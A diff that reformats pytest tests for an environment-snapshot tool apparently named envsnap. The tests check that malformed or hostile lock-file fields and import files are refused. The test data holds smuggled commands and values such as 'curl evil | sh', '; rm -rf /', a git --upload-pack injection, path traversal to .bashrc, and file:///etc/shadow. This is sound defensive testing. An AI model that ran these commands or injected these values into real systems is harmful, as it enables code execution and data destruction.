@@ -46,19 +46,35 @@ def base() -> Snapshot:
         python=sample_python(
             executable="bin/python3",
             packages=(
-                PythonPackage(name="demo", version="1.0", installer="pip",
-                              artifact=Artifact(filename=WHEEL, url=f"https://files.example.org/{WHEEL}",
-                                                sha256=SHA, size=1000)),
+                PythonPackage(
+                    name="demo",
+                    version="1.0",
+                    installer="pip",
+                    artifact=Artifact(filename=WHEEL, url=f"https://files.example.org/{WHEEL}", sha256=SHA, size=1000),
+                ),
                 PythonPackage(name="other", version="2.0", installer="pip"),
             ),
         ),
-        system=System(manager="dpkg", packages=(SystemPackage(manager="dpkg", name="libc6", version="2.36-9",
-                                                              arch="amd64"),)),
-        hardware=Hardware(memory_mib=1024, cpu=Cpu(arch="x86_64", logical_cores=2),
-                          gpus=(Gpu(index=0, name="GPU", memory_mib=8192),)),
-        conda=Conda(subdir="linux-64", packages=(CondaPackage(
-            name="zlib", version="1.3", build="h0_0", channel="https://conda.example.org/forge",
-            subdir="linux-64", url="https://conda.example.org/forge/linux-64/zlib-1.3-h0_0.conda", md5="0" * 32),)),
+        system=System(
+            manager="dpkg", packages=(SystemPackage(manager="dpkg", name="libc6", version="2.36-9", arch="amd64"),)
+        ),
+        hardware=Hardware(
+            memory_mib=1024, cpu=Cpu(arch="x86_64", logical_cores=2), gpus=(Gpu(index=0, name="GPU", memory_mib=8192),)
+        ),
+        conda=Conda(
+            subdir="linux-64",
+            packages=(
+                CondaPackage(
+                    name="zlib",
+                    version="1.3",
+                    build="h0_0",
+                    channel="https://conda.example.org/forge",
+                    subdir="linux-64",
+                    url="https://conda.example.org/forge/linux-64/zlib-1.3-h0_0.conda",
+                    md5="0" * 32,
+                ),
+            ),
+        ),
     )
 
 
@@ -91,8 +107,9 @@ def pkg(doc: dict[str, Any], i: int = 0) -> dict[str, Any]:
 
 def _run(*args: str, timeout: float = 60, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
     environ = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
-    return subprocess.run([sys.executable, "-m", "envsnap", *args], capture_output=True, text=True,
-                          timeout=timeout, env=environ)
+    return subprocess.run(
+        [sys.executable, "-m", "envsnap", *args], capture_output=True, text=True, timeout=timeout, env=environ
+    )
 
 
 def test_a_fifo_is_refused_without_hanging(tmp_path: Path) -> None:
@@ -107,8 +124,9 @@ def test_an_endless_device_is_refused_without_reading_it() -> None:
     assert done.returncode == 2 and "not a regular file" in done.stderr
 
 
-def test_a_lock_over_the_size_limit_is_refused(tmp_path: Path, cli: Callable[..., Any],
-                                               monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_lock_over_the_size_limit_is_refused(
+    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     path = write_lock(tmp_path / "envsnap.lock")
     assert cli("show", path).code == 0
     monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "500")
@@ -117,8 +135,9 @@ def test_a_lock_over_the_size_limit_is_refused(tmp_path: Path, cli: Callable[...
     one_line_exit_2(cli("show", path), "ENVSNAP_MAX_LOCK_BYTES='lots': not a number of bytes")
 
 
-def test_an_import_file_over_the_size_limit_is_refused(tmp_path: Path, cli: Callable[..., Any],
-                                                       monkeypatch: pytest.MonkeyPatch) -> None:
+def test_an_import_file_over_the_size_limit_is_refused(
+    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     path = tmp_path / "requirements.txt"
     path.write_text("demo==1.0 --hash=sha256:" + SHA + "\n" + "# padding\n" * 100)
     monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "200")
@@ -163,80 +182,125 @@ def test_quotes_and_comments_do_not_fool_the_guard(tmp_path: Path, cli: Callable
 # ---------------------------------------------------------------------------------------- field grammar
 
 
-@pytest.mark.parametrize(("mutate", "needle"), [
-    (lambda d: pkg(d).update(version="1.0\n--find-links http://127.0.0.1:8000/"),
-     "python.packages[0].version: not a valid version"),
-    (lambda d: pkg(d).update(name="demo\x00x"), "python.packages[0].name: not a valid distribution name"),
-    (lambda d: pkg(d).update(name="Demo_Pkg"), "python.packages[0].name: not a valid distribution name"),
-    (lambda d: pkg(d)["artifact"].update(filename="../../../../.bashrc"),
-     "python.packages[0].artifact.filename: not a valid file name"),
-    (lambda d: pkg(d)["artifact"].update(filename="x/../../evil-1.0-py3-none-any.whl"),
-     "artifact.filename: not a valid file name"),
-    (lambda d: pkg(d)["artifact"].update(sha256="AB" * 32), "artifact.sha256: not a valid sha256"),
-    (lambda d: pkg(d)["artifact"].update(url="file:///etc/shadow\n"), "artifact.url: not a valid URL"),
-    (lambda d: pkg(d)["artifact"].update(url="javascript:alert(1)"), "artifact.url: not a valid URL"),
-    (lambda d: pkg(d)["artifact"].update(size=10**30), "artifact.size: not a valid number"),
-    (lambda d: d["hardware"].update(memory_mib=2**62), "hardware.memory_mib: not a valid number"),
-    (lambda d: d["hardware"]["gpus"][0].update(memory_mib=-1), "hardware.gpus[0].memory_mib"),
-    (lambda d: d["envsnap"].update(created='2026\nRUN curl evil | sh\n#'), "envsnap.created: not a valid timestamp"),
-    (lambda d: d["envsnap"].update(generator="<script>alert(1)</script>"), "envsnap.generator"),
-    (lambda d: d["python"].update(version="--mirror=http://127.0.0.1:9/"), "python.version: not a valid Python"),
-    (lambda d: d["python"].update(version="tools/python3.11"), "python.version: not a valid Python"),
-    (lambda d: d["python"].update(kind="venv\nRUN id"), "python.kind: not a valid value (one of"),
-    (lambda d: pkg(d).update(source={"kind": "tarball"}), "python.packages[0].source.kind"),
-    (lambda d: pkg(d).update(source={"kind": "vcs", "url": "https://example.org/x.git", "vcs": "git",
-                                     "commit_id": "--upload-pack=touch /tmp/x"}), "source.commit_id"),
-    (lambda d: pkg(d).update(source={"kind": "vcs", "url": "https://example.org/x.git", "vcs": "git",
-                                     "commit_id": "a" * 40, "subdirectory": "../../etc"}), "source.subdirectory"),
-    (lambda d: pkg(d).update(wheel_tags=["py3-none-any\n"]), "python.packages[0].wheel_tags[0]"),
-    (lambda d: d["system"]["packages"][0].update(version="2.36 ; rm -rf /"), "system.packages[0].version"),
-    (lambda d: d["system"]["packages"][0].update(manager="pacman"), "system.packages[0].manager"),
-    (lambda d: d["conda"]["packages"][0].update(md5="x" * 32), "conda.packages[0].md5"),
-    (lambda d: d["conda"]["packages"][0].update(subdir="linux-64\n@EXPLICIT"), "conda.packages[0].subdir"),
-    (lambda d: d["conda"]["packages"][0].update(noarch="anything"), "conda.packages[0].noarch"),
-    (lambda d: d["conda"]["packages"][0].update(build_number=2**63), "conda.packages[0].build_number"),
-    (lambda d: d.update(environment={"A B": "1"}), "environment: not a valid variable name"),
-    (lambda d: d.update(environment={"X": "\x1b]8;;https://evil/\x1b\\"}), "environment.X: not a valid text"),
-    (lambda d: d["platform"].update(kernel="6.1[/]"), "platform.kernel"),
-])
-def test_a_field_outside_its_grammar_is_named_by_path(tmp_path: Path, cli: Callable[..., Any],
-                                                       mutate: Callable[[dict[str, Any]], None],
-                                                       needle: str) -> None:
+@pytest.mark.parametrize(
+    ("mutate", "needle"),
+    [
+        (
+            lambda d: pkg(d).update(version="1.0\n--find-links http://127.0.0.1:8000/"),
+            "python.packages[0].version: not a valid version",
+        ),
+        (lambda d: pkg(d).update(name="demo\x00x"), "python.packages[0].name: not a valid distribution name"),
+        (lambda d: pkg(d).update(name="Demo_Pkg"), "python.packages[0].name: not a valid distribution name"),
+        (
+            lambda d: pkg(d)["artifact"].update(filename="../../../../.bashrc"),
+            "python.packages[0].artifact.filename: not a valid file name",
+        ),
+        (
+            lambda d: pkg(d)["artifact"].update(filename="x/../../evil-1.0-py3-none-any.whl"),
+            "artifact.filename: not a valid file name",
+        ),
+        (lambda d: pkg(d)["artifact"].update(sha256="AB" * 32), "artifact.sha256: not a valid sha256"),
+        (lambda d: pkg(d)["artifact"].update(url="file:///etc/shadow\n"), "artifact.url: not a valid URL"),
+        (lambda d: pkg(d)["artifact"].update(url="javascript:alert(1)"), "artifact.url: not a valid URL"),
+        (lambda d: pkg(d)["artifact"].update(size=10**30), "artifact.size: not a valid number"),
+        (lambda d: d["hardware"].update(memory_mib=2**62), "hardware.memory_mib: not a valid number"),
+        (lambda d: d["hardware"]["gpus"][0].update(memory_mib=-1), "hardware.gpus[0].memory_mib"),
+        (
+            lambda d: d["envsnap"].update(created="2026\nRUN curl evil | sh\n#"),
+            "envsnap.created: not a valid timestamp",
+        ),
+        (lambda d: d["envsnap"].update(generator="<script>alert(1)</script>"), "envsnap.generator"),
+        (lambda d: d["python"].update(version="--mirror=http://127.0.0.1:9/"), "python.version: not a valid Python"),
+        (lambda d: d["python"].update(version="tools/python3.11"), "python.version: not a valid Python"),
+        (lambda d: d["python"].update(kind="venv\nRUN id"), "python.kind: not a valid value (one of"),
+        (lambda d: pkg(d).update(source={"kind": "tarball"}), "python.packages[0].source.kind"),
+        (
+            lambda d: pkg(d).update(
+                source={
+                    "kind": "vcs",
+                    "url": "https://example.org/x.git",
+                    "vcs": "git",
+                    "commit_id": "--upload-pack=touch /tmp/x",
+                }
+            ),
+            "source.commit_id",
+        ),
+        (
+            lambda d: pkg(d).update(
+                source={
+                    "kind": "vcs",
+                    "url": "https://example.org/x.git",
+                    "vcs": "git",
+                    "commit_id": "a" * 40,
+                    "subdirectory": "../../etc",
+                }
+            ),
+            "source.subdirectory",
+        ),
+        (lambda d: pkg(d).update(wheel_tags=["py3-none-any\n"]), "python.packages[0].wheel_tags[0]"),
+        (lambda d: d["system"]["packages"][0].update(version="2.36 ; rm -rf /"), "system.packages[0].version"),
+        (lambda d: d["system"]["packages"][0].update(manager="pacman"), "system.packages[0].manager"),
+        (lambda d: d["conda"]["packages"][0].update(md5="x" * 32), "conda.packages[0].md5"),
+        (lambda d: d["conda"]["packages"][0].update(subdir="linux-64\n@EXPLICIT"), "conda.packages[0].subdir"),
+        (lambda d: d["conda"]["packages"][0].update(noarch="anything"), "conda.packages[0].noarch"),
+        (lambda d: d["conda"]["packages"][0].update(build_number=2**63), "conda.packages[0].build_number"),
+        (lambda d: d.update(environment={"A B": "1"}), "environment: not a valid variable name"),
+        (lambda d: d.update(environment={"X": "\x1b]8;;https://evil/\x1b\\"}), "environment.X: not a valid text"),
+        (lambda d: d["platform"].update(kernel="6.1[/]"), "platform.kernel"),
+    ],
+)
+def test_a_field_outside_its_grammar_is_named_by_path(
+    tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None], needle: str
+) -> None:
     path = write_lock(tmp_path / "envsnap.lock", mutate)
     result = cli("show", path)
     one_line_exit_2(result, needle)
     assert "\x1b" not in result.err and "\x00" not in result.err  # shown escaped, never raw
 
 
-@pytest.mark.parametrize("command", [
-    ["show"], ["show", "--json"], ["check"], ["export", "-f", "requirements", "-o", "-"],
-    ["export", "-f", "markdown", "-o", "-"], ["export", "-f", "pylock", "-o", "-"],
-    ["rebuild", "--dry-run", "--target", "venv"], ["pin", "-o", "/dev/null"],
-])
-def test_a_nul_in_a_name_is_one_line_in_every_command(tmp_path: Path, cli: Callable[..., Any],
-                                                      command: list[str]) -> None:
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["show"],
+        ["show", "--json"],
+        ["check"],
+        ["export", "-f", "requirements", "-o", "-"],
+        ["export", "-f", "markdown", "-o", "-"],
+        ["export", "-f", "pylock", "-o", "-"],
+        ["rebuild", "--dry-run", "--target", "venv"],
+        ["pin", "-o", "/dev/null"],
+    ],
+)
+def test_a_nul_in_a_name_is_one_line_in_every_command(
+    tmp_path: Path, cli: Callable[..., Any], command: list[str]
+) -> None:
     # "embedded null byte" tracebacks in pin and the exports before
     path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(filename="demo\x00.whl"))
     one_line_exit_2(cli(*command[:1], path, *command[1:]), "artifact.filename")
 
 
 @pytest.mark.parametrize("command", [["export", "-f", "markdown", "-o", "-"], ["check"], ["show"]])
-def test_a_huge_integer_is_one_line_not_an_overflow(tmp_path: Path, cli: Callable[..., Any],
-                                                    command: list[str]) -> None:
+def test_a_huge_integer_is_one_line_not_an_overflow(
+    tmp_path: Path, cli: Callable[..., Any], command: list[str]
+) -> None:
     # OverflowError in the appendix and the disk rules before
     path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(size=10**40))
     one_line_exit_2(cli(*command[:1], path, *command[1:]), "python.packages[0].artifact.size")
 
 
-@pytest.mark.parametrize(("mutate", "needle"), [
-    (lambda d: d["python"]["packages"].append(dict(pkg(d))), "python.packages[2]: package 'demo' appears twice"),
-    (lambda d: d["system"]["packages"].append(dict(d["system"]["packages"][0])), "system package"),
-    (lambda d: d["hardware"]["gpus"].append({"index": 0}), "hardware.gpus[1]: GPU index '0' appears twice"),
-    (lambda d: d["conda"]["packages"].append(dict(d["conda"]["packages"][0])), "conda package 'zlib'"),
-    (lambda d: d.update(frameworks={"torch": {"name": "jax"}}), "frameworks.torch.name"),
-])
-def test_duplicates_are_refused(tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None],
-                                needle: str) -> None:
+@pytest.mark.parametrize(
+    ("mutate", "needle"),
+    [
+        (lambda d: d["python"]["packages"].append(dict(pkg(d))), "python.packages[2]: package 'demo' appears twice"),
+        (lambda d: d["system"]["packages"].append(dict(d["system"]["packages"][0])), "system package"),
+        (lambda d: d["hardware"]["gpus"].append({"index": 0}), "hardware.gpus[1]: GPU index '0' appears twice"),
+        (lambda d: d["conda"]["packages"].append(dict(d["conda"]["packages"][0])), "conda package 'zlib'"),
+        (lambda d: d.update(frameworks={"torch": {"name": "jax"}}), "frameworks.torch.name"),
+    ],
+)
+def test_duplicates_are_refused(
+    tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None], needle: str
+) -> None:
     path = write_lock(tmp_path / "envsnap.lock", mutate)
     for command in (["show"], ["export", "-f", "requirements", "-o", "-"]):
         one_line_exit_2(cli(command[0], path, *command[1:]), needle)
@@ -263,8 +327,10 @@ def test_a_legacy_version_is_kept_but_never_pinned_or_rebuilt(tmp_path: Path, cl
     demo = lock.package("demo")
     assert demo is not None and not demo.legacy_version
     assert cli("show", path).code == 0
-    one_line_exit_2(cli("rebuild", path, "--dry-run", "--target", "venv", "--dest", tmp_path / "env"),
-                    "other '2.0-beta_final': not a PEP 440 version")
+    one_line_exit_2(
+        cli("rebuild", path, "--dry-run", "--target", "venv", "--dest", tmp_path / "env"),
+        "other '2.0-beta_final': not a PEP 440 version",
+    )
 
 
 def test_pin_reports_a_legacy_version_unpinned_without_asking_an_index() -> None:
@@ -279,27 +345,51 @@ def test_pin_reports_a_legacy_version_unpinned_without_asking_an_index() -> None
 # ------------------------------------------------------------------------------------------- importers
 
 
-@pytest.mark.parametrize(("name", "text", "needle"), [
-    ("pylock.toml", "lock-version = '1.0'\n[[packages]]\nname = 'a'\nx = " + "[" * 3000 + "]" * 3000,
-     "nested more than 32 levels deep"),
-    ("pylock.toml", "lock-version = '1.0'\n" + "a" + ".a" * 20_000 + " = 1\n[[packages]]\n",
-     "a dotted key of more than 16 parts"),
-    ("envsnap.lock.json", '{"envsnap": {"schema_version": 1}, "x": ' + "[" * 3000 + "]" * 3000 + "}",
-     "nested more than 32 levels deep"),
-    ("envsnap.lock.json", '{"envsnap": {"schema_version": 1, "schema_version": 1}}', "appears twice"),
-    ("conda-lock.yml", "version: 1\nmetadata: &a {platforms: [linux-64]}\npackage: []\nx: *a\n"
-                       "manager: conda\n", "aliases (*name) are not allowed"),
-    ("conda-lock.yml", "version: 1\npackage:\n- " + "[" * 200 + "]" * 200 + "\nmanager: x\n",
-     "nested more than 32 levels deep"),
-    ("conda-lock.yml", "version: " + "9" * 5000 + "\npackage: []\nmanager: x\n", "an integer too long"),
-    ("explicit.txt", "@EXPLICIT\nhttps://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#" + "0" * 32
-                     + "\nhttps://conda.example.org/c/linux-64%0a/x\x1b[31m-1-h_0.conda\n", "conda"),
-    ("requirements.txt", "demo===1.0&&id --hash=sha256:" + SHA + "\n", "python.packages[0].version"),
-    # found by the fuzzer: a --hash continuation line whose requirement line lost its backslash (IndexError)
-    ("requirements.txt", "demo==1.0\n    --hash=sha256:" + SHA + "\n", "--hash without a requirement"),
-])
-def test_a_hostile_import_file_is_one_line(tmp_path: Path, cli: Callable[..., Any], name: str, text: str,
-                                           needle: str) -> None:
+@pytest.mark.parametrize(
+    ("name", "text", "needle"),
+    [
+        (
+            "pylock.toml",
+            "lock-version = '1.0'\n[[packages]]\nname = 'a'\nx = " + "[" * 3000 + "]" * 3000,
+            "nested more than 32 levels deep",
+        ),
+        (
+            "pylock.toml",
+            "lock-version = '1.0'\n" + "a" + ".a" * 20_000 + " = 1\n[[packages]]\n",
+            "a dotted key of more than 16 parts",
+        ),
+        (
+            "envsnap.lock.json",
+            '{"envsnap": {"schema_version": 1}, "x": ' + "[" * 3000 + "]" * 3000 + "}",
+            "nested more than 32 levels deep",
+        ),
+        ("envsnap.lock.json", '{"envsnap": {"schema_version": 1, "schema_version": 1}}', "appears twice"),
+        (
+            "conda-lock.yml",
+            "version: 1\nmetadata: &a {platforms: [linux-64]}\npackage: []\nx: *a\nmanager: conda\n",
+            "aliases (*name) are not allowed",
+        ),
+        (
+            "conda-lock.yml",
+            "version: 1\npackage:\n- " + "[" * 200 + "]" * 200 + "\nmanager: x\n",
+            "nested more than 32 levels deep",
+        ),
+        ("conda-lock.yml", "version: " + "9" * 5000 + "\npackage: []\nmanager: x\n", "an integer too long"),
+        (
+            "explicit.txt",
+            "@EXPLICIT\nhttps://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#"
+            + "0" * 32
+            + "\nhttps://conda.example.org/c/linux-64%0a/x\x1b[31m-1-h_0.conda\n",
+            "conda",
+        ),
+        ("requirements.txt", "demo===1.0&&id --hash=sha256:" + SHA + "\n", "python.packages[0].version"),
+        # found by the fuzzer: a --hash continuation line whose requirement line lost its backslash (IndexError)
+        ("requirements.txt", "demo==1.0\n    --hash=sha256:" + SHA + "\n", "--hash without a requirement"),
+    ],
+)
+def test_a_hostile_import_file_is_one_line(
+    tmp_path: Path, cli: Callable[..., Any], name: str, text: str, needle: str
+) -> None:
     path = tmp_path / name
     path.write_text(text, encoding="utf-8")
     result = cli("import", path, "-o", tmp_path / "out.lock")
@@ -333,8 +423,21 @@ def test_every_model_field_has_a_grammar() -> None:
             if leaf in (str, int):
                 assert f.name in rules, f"{cls.__name__}.{f.name} has no grammar"
     covered = set(lockfile.RULES)
-    for cls in (Artifact, Conda, CondaPackage, Cpu, Gpu, Hardware, Meta, Platform, PythonEnv, PythonPackage,
-                Source, System, SystemPackage):
+    for cls in (
+        Artifact,
+        Conda,
+        CondaPackage,
+        Cpu,
+        Gpu,
+        Hardware,
+        Meta,
+        Platform,
+        PythonEnv,
+        PythonPackage,
+        Source,
+        System,
+        SystemPackage,
+    ):
         assert cls in covered
 
 
@@ -344,8 +447,9 @@ def test_a_capture_records_no_control_character_so_its_lock_loads(tmp_path: Path
     from envsnap._privacy import PathRedactor
     from envsnap.probes.environment import filter_environment
 
-    env = filter_environment({"XLA_FLAGS": "--a\n--b\t--c", "TORCH_X": "\x1b[31mred", "TORCH_A-B": "1"},
-                             PathRedactor(home="/nonexistent"))
+    env = filter_environment(
+        {"XLA_FLAGS": "--a\n--b\t--c", "TORCH_X": "\x1b[31mred", "TORCH_A-B": "1"}, PathRedactor(home="/nonexistent")
+    )
     assert env == {"TORCH_X": "\N{REPLACEMENT CHARACTER}[31mred", "XLA_FLAGS": "--a --b --c"}
     snapshot = dataclasses.replace(base(), environment=env)
     assert lockfile.loads(lockfile.dumps(snapshot)).environment == env
